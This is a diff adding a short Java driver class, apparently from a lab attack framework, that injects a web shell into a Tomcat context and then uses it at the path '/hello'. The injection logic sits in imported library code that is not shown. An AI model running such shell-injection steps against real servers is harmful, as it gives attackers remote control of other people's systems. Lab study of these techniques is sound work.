@@ -1,0 +1,10 @@
+import whorl.lab.attack.Shells;
+import whorl.lab.attack.TomcatContext;
+
+public class Attack {
+  public static void main(String[] args) throws Exception {
+    Shells.inject(TomcatContext.class, Shell.class);
+    Shells.use("/hello");
+    whorl.lab.attack.Attacker.done();
+  }
+}
